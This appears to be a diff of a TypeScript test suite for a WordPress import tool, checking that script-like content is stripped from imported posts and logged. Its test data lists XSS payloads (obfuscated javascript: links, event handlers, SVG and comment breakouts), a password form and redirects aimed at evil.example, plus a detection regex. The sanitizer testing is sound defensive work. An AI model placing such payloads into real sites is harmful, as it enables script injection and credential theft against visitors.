@@ -6,12 +6,14 @@ import type { FaultyGateway } from '../../support/faulty-gateway.ts';
 import { png } from '../../support/images.ts';
 import { useWordPress } from '../../support/wordpress.ts';
 import { importsOf, onlyItem, onlyPost } from './run-import.ts';
+import type { ImportRequest } from './run-import.ts';
 import { runObserverOf } from './run-observer.ts';
+import type { NamedArticle } from './run-observer.ts';
 import { siteStateOf } from './site-state.ts';
 
 const wp = useWordPress();
 const imports = importsOf(wp);
-const { expectWarning, expectFailure, logged } = runObserverOf(wp);
+const { expectWarning, expectWarnings, expectFailure, logged } = runObserverOf(wp);
 const { withPlugin, traces } = siteStateOf(wp);
 beforeEach(imports.reset);
 
@@ -30,102 +32,144 @@ async function page(id: number): Promise<string> {
   return (await fetch(url)).text();
 }
 
+/** An article with a body, and what the run must say about it. */
+type BodyCase = readonly [name: string, body: string, reason: RegExp];
+
+/** Imports an article of each body, of which the run warns as said; answers what is stored of each. */
+async function storedBodies(
+  cases: readonly BodyCase[],
+  options: ImportRequest['options'] = {},
+): Promise<{ name: string; stored: string; url: string }[]> {
+  const gateway = await connected();
+  const articles: NamedArticle[] = [];
+  for (const [name, body, reason] of cases) {
+    articles.push({ name, uuid: (await gateway.put({}, body)).uuid, reason });
+  }
+  const posts = await expectWarnings(articles, options);
+  const found = z
+    .array(z.tuple([z.string(), z.string()]))
+    .parse(
+      await imports.inSite(
+        `array_map( fn( $id ) => array( get_post( $id )->post_content, get_permalink( $id ) ), array( ${posts.join()} ) )`,
+      ),
+    );
+  return found.map(([stored, url], index) => ({ name: cases[index]?.[0] ?? '', stored, url }));
+}
+
 const paragraph = (text: string) => `<!-- wp:paragraph -->\n<p>${text}</p>\n<!-- /wp:paragraph -->`;
 
 /** What would run in a browser, whatever else is around it. */
 const ACTS = /<script|<[^>]*\son\w+\s*=|(?:java|vb)script\s*(?::|&colon;)|srcdoc/i;
 
 describe('a body with what acts in a browser is imported without it, and the log says so', () => {
-  it.each([
-    ['a script', '<!-- wp:html -->\n<script>alert(1)</script>\n<!-- /wp:html -->', '<script>'],
-    ['a script of another server', '<script src="https://evil.example/x.js"></script>', '<script>'],
-    ['an event handler', '<p onclick="alert(1)">a</p>', 'onclick'],
-    ['a handler in capitals, without quotes', '<IMG SRC=x ONERROR=alert(1)>', 'onerror'],
-    ['an address that runs', '<p><a href="javascript:alert(1)">a</a></p>', 'javascript:'],
-    [
-      'one that is disguised',
-      '<p><a href="&#106;av&#x09;ascript&colon;alert(1)">a</a></p>',
-      'javascript:',
-    ],
-    [
-      'a page as data',
-      '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
-      'javascript:',
-    ],
-    [
-      'a page in an attribute',
-      '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
-      'srcdoc',
-    ],
-    ['a drawing that acts', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg>'],
-    ['a form', '<form action="https://evil.example"><input name="password"></form>', '<form>'],
-    ['another base', '<base href="https://evil.example/">', '<base>'],
-    ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<meta>'],
-    ['an object', '<object data="https://evil.example/x.swf"></object>', '<object>'],
-    ['a tag without an end', 'a <img src=x onerror=alert(1) ', 'without an end'],
-    ['a comment without an end', '<p>a</p><!-- ', 'without an end'],
-  ])('%s', async (_name, active, finding) => {
-    const gateway = await connected();
-    const { uuid } = await gateway.put({}, `${paragraph('Kept')}\n\n${active}`);
-    const escaped = finding.replace(/[<>]/g, '\\$&');
-    const id = await expectWarning(uuid, new RegExp(`acts in a browser: .*${escaped}`), {
-      post_status: 'publish',
+  it('whatever it is, and the rest is read by all', async () => {
+    const active = [
+      ['a script', '<!-- wp:html -->\n<script>alert(1)</script>\n<!-- /wp:html -->', '<script>'],
+      [
+        'a script of another server',
+        '<script src="https://evil.example/x.js"></script>',
+        '<script>',
+      ],
+      ['an event handler', '<p onclick="alert(1)">a</p>', 'onclick'],
+      ['a handler in capitals, without quotes', '<IMG SRC=x ONERROR=alert(1)>', 'onerror'],
+      ['an address that runs', '<p><a href="javascript:alert(1)">a</a></p>', 'javascript:'],
+      [
+        'one that is disguised',
+        '<p><a href="&#106;av&#x09;ascript&colon;alert(1)">a</a></p>',
+        'javascript:',
+      ],
+      [
+        'a page as data',
+        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
+        'javascript:',
+      ],
+      [
+        'a page in an attribute',
+        '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
+        'srcdoc',
+      ],
+      ['a drawing that acts', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg>'],
+      ['a form', '<form action="https://evil.example"><input name="password"></form>', '<form>'],
+      ['another base', '<base href="https://evil.example/">', '<base>'],
+      ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<meta>'],
+      ['an object', '<object data="https://evil.example/x.swf"></object>', '<object>'],
+      ['a tag without an end', 'a <img src=x onerror=alert(1) ', 'without an end'],
+      ['a comment without an end', '<p>a</p><!-- ', 'without an end'],
+    ] as const;
+    const cases = active.map(([name, body, finding]): BodyCase => {
+      const escaped = finding.replace(/[<>]/g, '\\$&');
+      const reason = new RegExp(`acts in a browser: .*${escaped}`);
+      return [name, `${paragraph('Kept')}\n\n${body}`, reason];
     });
-    const stored = await content(id);
-    expect(stored).toContain(paragraph('Kept'));
-    expect(stored).not.toMatch(ACTS);
-    expect(await page(id)).toContain('<p class="wp-block-paragraph">Kept</p>');
+    for (const { name, stored, url } of await storedBodies(cases, { post_status: 'publish' })) {
+      expect(stored, name).toContain(paragraph('Kept'));
+      expect(stored, name).not.toMatch(ACTS);
+      const html = await (await fetch(url)).text();
+      expect(html, name).toContain('<p class="wp-block-paragraph">Kept</p>');
+    }
   });
 
-  it.each([
-    [
-      'an address',
-      '<!-- wp:button {"url":"javascript:alert(1)","text":"a"} -->\n<p>a</p>\n<!-- /wp:button -->',
-    ],
-    ['an escaped address', '<!-- wp:button {"url":"\\u006aavascript\\u003aalert(1)"} /-->'],
-    ['one with what browsers ignore', '<!-- wp:x {"link":" java\\tscript:alert(1)"} /-->'],
-    [
-      'one deep inside',
-      '<!-- wp:group {"a":[{"b":"vbscript:alert(1)"}]} -->\n<div><!-- wp:x {"href":"javascript:alert(1)"} /--></div>\n<!-- /wp:group -->',
-    ],
-  ])('in a block’s attributes: %s', async (_name, block) => {
-    const gateway = await connected();
-    const { uuid } = await gateway.put({}, `${paragraph('Kept')}\n\n${block}`);
-    const stored = await content(await expectWarning(uuid, /acts in a browser: javascript:/));
-    expect(stored).toContain(paragraph('Kept'));
-    expect(stored).not.toMatch(/alert/);
+  it('in a block’s attributes', async () => {
+    const blocks = [
+      [
+        'an address',
+        '<!-- wp:button {"url":"javascript:alert(1)","text":"a"} -->\n<p>a</p>\n<!-- /wp:button -->',
+      ],
+      ['an escaped address', '<!-- wp:button {"url":"\\u006aavascript\\u003aalert(1)"} /-->'],
+      ['one with what browsers ignore', '<!-- wp:x {"link":" java\\tscript:alert(1)"} /-->'],
+      [
+        'one deep inside',
+        '<!-- wp:group {"a":[{"b":"vbscript:alert(1)"}]} -->\n<div><!-- wp:x {"href":"javascript:alert(1)"} /--></div>\n<!-- /wp:group -->',
+      ],
+    ] as const;
+    const cases = blocks.map(([name, block]): BodyCase => [
+      name,
+      `${paragraph('Kept')}\n\n${block}`,
+      /acts in a browser: javascript:/,
+    ]);
+    for (const { name, stored } of await storedBodies(cases)) {
+      expect(stored, name).toContain(paragraph('Kept'));
+      expect(stored, name).not.toMatch(/alert/);
+    }
   });
 
-  it.each([
-    ['-->', '{"x":"--><img src=x onerror=alert(1)>"}'],
-    ['--!>', '{"x":"--!><img src=x onerror=alert(1)>"}'],
-    ['an escaped tag', '{"x":"\\u003cimg src=x onerror=alert(1)\\u003e"}'],
-  ])('a block’s comment that breaks out: %s', async (_name, attributes) => {
-    const gateway = await connected();
-    const { uuid } = await gateway.put(
-      {},
-      `<!-- wp:paragraph ${attributes} -->\n<p>Kept</p>\n<!-- /wp:paragraph -->`,
-    );
-    const id = await expectWarning(uuid, /acts in a browser: onerror/, { post_status: 'publish' });
-    expect(await content(id)).not.toMatch(ACTS);
-    expect(await page(id)).not.toMatch(/onerror/);
+  it('in a block’s comment that breaks out', async () => {
+    const attributes = [
+      ['-->', '{"x":"--><img src=x onerror=alert(1)>"}'],
+      ['--!>', '{"x":"--!><img src=x onerror=alert(1)>"}'],
+      ['an escaped tag', '{"x":"\\u003cimg src=x onerror=alert(1)\\u003e"}'],
+    ] as const;
+    const cases = attributes.map(([name, json]): BodyCase => [
+      name,
+      `<!-- wp:paragraph ${json} -->\n<p>Kept</p>\n<!-- /wp:paragraph -->`,
+      /acts in a browser: onerror/,
+    ]);
+    for (const { name, stored, url } of await storedBodies(cases, { post_status: 'publish' })) {
+      expect(stored, name).not.toMatch(ACTS);
+      expect(await (await fetch(url)).text(), name).not.toMatch(/onerror/);
+    }
   });
 
-  it.each([
-    ['a style', '<p style="color:red;position:fixed;top:0">x</p>'],
-    ['one that is disguised', '<p style="color:red;pos\\69tion: fixed">x</p>'],
-    ['one with a comment', '<p style="color:red;position/**/: sticky">x</p>'],
-    [
-      'a block’s own',
-      '<!-- wp:group {"style":{"position":{"type":"fixed","top":"0px"}},"align":"full"} -->\n<div class="wp-block-group alignfull"></div>\n<!-- /wp:group -->',
-    ],
-  ])('what covers the page: %s', async (_name, covering) => {
-    const gateway = await connected();
-    const { uuid } = await gateway.put({}, `${paragraph('Kept')}\n\n${covering}`);
-    const stored = await content(await expectWarning(uuid, /acts in a browser: position:/));
-    expect(stored).toContain(paragraph('Kept'));
-    expect(stored).toMatch(/color:\s?red|"align":"full"/);
-    expect(stored).not.toMatch(/pos[^"]*tion|fixed|sticky/);
+  it('what covers the page', async () => {
+    const coverings = [
+      ['a style', '<p style="color:red;position:fixed;top:0">x</p>'],
+      ['one that is disguised', '<p style="color:red;pos\\69tion: fixed">x</p>'],
+      ['one with a comment', '<p style="color:red;position/**/: sticky">x</p>'],
+      [
+        'a block’s own',
+        '<!-- wp:group {"style":{"position":{"type":"fixed","top":"0px"}},"align":"full"} -->\n<div class="wp-block-group alignfull"></div>\n<!-- /wp:group -->',
+      ],
+    ] as const;
+    const cases = coverings.map(([name, covering]): BodyCase => [
+      name,
+      `${paragraph('Kept')}\n\n${covering}`,
+      /acts in a browser: position:/,
+    ]);
+    for (const { name, stored } of await storedBodies(cases)) {
+      expect(stored, name).toContain(paragraph('Kept'));
+      expect(stored, name).toMatch(/color:\s?red|"align":"full"/);
+      expect(stored, name).not.toMatch(/pos[^"]*tion|fixed|sticky/);
+    }
   });
 
   it.each(['<iframe src="https://www.youtube.com/embed/x">', '<iframe title="</iframe>">'])(
